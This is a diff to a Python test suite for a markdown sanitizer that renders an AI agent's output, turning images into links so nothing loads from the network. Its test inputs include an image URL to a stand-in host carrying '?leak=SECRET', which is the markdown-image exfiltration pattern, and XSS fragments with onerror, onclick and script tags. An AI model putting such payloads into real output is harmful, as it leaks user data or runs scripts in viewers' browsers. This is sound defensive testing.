@@ -50,11 +50,47 @@ def test_raw_html_is_shown_as_text_not_markup():
     assert "&lt;b&gt;bold&lt;/b&gt;" in html and tags_of(html) == [("p", {})]
 
 
+# The documented rule (view/sanitize.py): nothing is loaded from the network, so an image in agent
+# markdown becomes a link "🖼 alt" (no <img>); the link keeps the URL only where a link may (an
+# absolute http(s) or mailto URL), any other source is dropped and the alt text stays.
+IMAGE_SOURCES = [
+    ("![p](https://example.org/p.png)", "https://example.org/p.png"),
+    ("![p](http://example.org/p.png)", "http://example.org/p.png"),
+    ("![p](//evil.example/p.png)", None),  # protocol-relative: not absolute
+    ("![p](chart.png)", None),  # relative: a sandbox path means nothing here
+    ("![p](/mnt/session/outputs/c.png)", None),
+    ("![p](ftp://example.org/p.png)", None),
+    ("![p](data:image/png;base64,iVBORw0KGgo=)", None),
+    ("![p](mailto:a@b.example)", "mailto:a@b.example"),
+]
+
+
+@pytest.mark.parametrize(("source", "href"), IMAGE_SOURCES)
+def test_image_sources_follow_the_documented_rule(source, href):
+    tags = tags_of(markdown_to_html(source))
+    assert "img" not in [t for t, _ in tags]
+    [(tag, attrs)] = [(t, a) for t, a in tags if t == "a"]
+    assert attrs.get("href") == href and "\N{FRAME WITH PICTURE} p" in markdown_to_html(source)
+
+
+def test_nothing_carries_a_source():
+    for source in HOSTILE_MARKDOWN:
+        for tag, attrs in tags_of(markdown_to_html(source)):
+            assert "src" not in attrs, (source, tag)
+
+
 def test_image_with_data_uri_loses_its_source():
-    assert tags_of(markdown_to_html("![chart](data:image/png;base64,iVBORw0KGgo=)")) == [
-        ("p", {}),
-        ("img", {"alt": "chart"}),
-    ]
+    html = markdown_to_html("![chart](data:image/png;base64,iVBORw0KGgo=)")
+    assert tags_of(html) == [("p", {}), ("a", {"target": "_blank", "rel": "noopener noreferrer nofollow"})]
+    assert "\N{FRAME WITH PICTURE} chart" in html
+
+
+def test_remote_images_are_links_never_loaded():
+    html = markdown_to_html("see ![t](https://evil.example/p.png?leak=SECRET) and ![r][ref]\n\n"
+                            "[ref]: http://evil.example/q.png")
+    assert "img" not in [t for t, _ in tags_of(html)]
+    links = [a["href"] for t, a in tags_of(html) if t == "a"]
+    assert links == ["https://evil.example/p.png?leak=SECRET", "http://evil.example/q.png"]
 
 
 HOSTILE_HTML = [
@@ -105,14 +141,13 @@ def test_useful_markdown_survives():
         "td",
         "pre",
         "a",
-        "img",
     ):
         assert tag in tags, tag
     links = [a for t, a in tags_of(html) if t == "a"]
-    assert [a["href"] for a in links] == ["https://example.org", "mailto:a@b.example"]
+    assert [a["href"] for a in links] == ["https://example.org", "mailto:a@b.example", "https://example.org/p.png"]
     assert all("noopener" in a["rel"] and a["target"] == "_blank" for a in links)
     attrs = dict(tags_of(html))
-    assert attrs["th"]["style"] == "text-align:right" and attrs["img"]["src"] == "https://example.org/p.png"
+    assert attrs["th"]["style"] == "text-align:right" and "img" not in attrs  # images are links (nothing loads)
     assert "x = 1 &lt; 2" in html
     assert_safe(html)
 
@@ -124,3 +159,24 @@ def test_empty_markdown_is_empty():
 def test_escape_escapes_text_and_attribute_characters():
     assert escape('<a href="x">&\'') == "&lt;a href=&quot;x&quot;&gt;&amp;&#x27;"
     assert escape(42) == "42"
+
+
+def test_property_inert_markdown_runs_and_loads_nothing():
+    import random
+
+    from markdown_it import MarkdownIt
+
+    from nb_agents.view.sanitize import inert_markdown
+
+    permissive = MarkdownIt("commonmark", {"html": True}).enable(["table"])
+    pieces = ["<", ">", "<img src=x onerror=a()>", "<script>", "</script>", "![a](https://e.x/i.png)", "![",
+              "](", ")", "[r]: https://e.x/r.png\n", "![b][r]", "`", "```\n", "\n", "\n\n", "> ", "- ", "<!--",
+              "-->", "<a href=x onclick=b()>", "\\", "&lt;", "text", " ", "|a|b|\n|-|-|\n", "<div>\n", "    "]
+    rng = random.Random(1613)
+    for _ in range(1500):
+        source = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
+        tags = tags_of(permissive.render(inert_markdown(source)))
+        assert not [t for t, _ in tags if t not in ("p", "a", "code", "pre", "blockquote", "ul", "li", "table",
+                                                   "thead", "tbody", "tr", "th", "td", "br", "hr", "em",
+                                                   "strong", "h1", "h2")], (source, tags)
+        assert not any(k.startswith("on") for _, attrs in tags for k in attrs), source
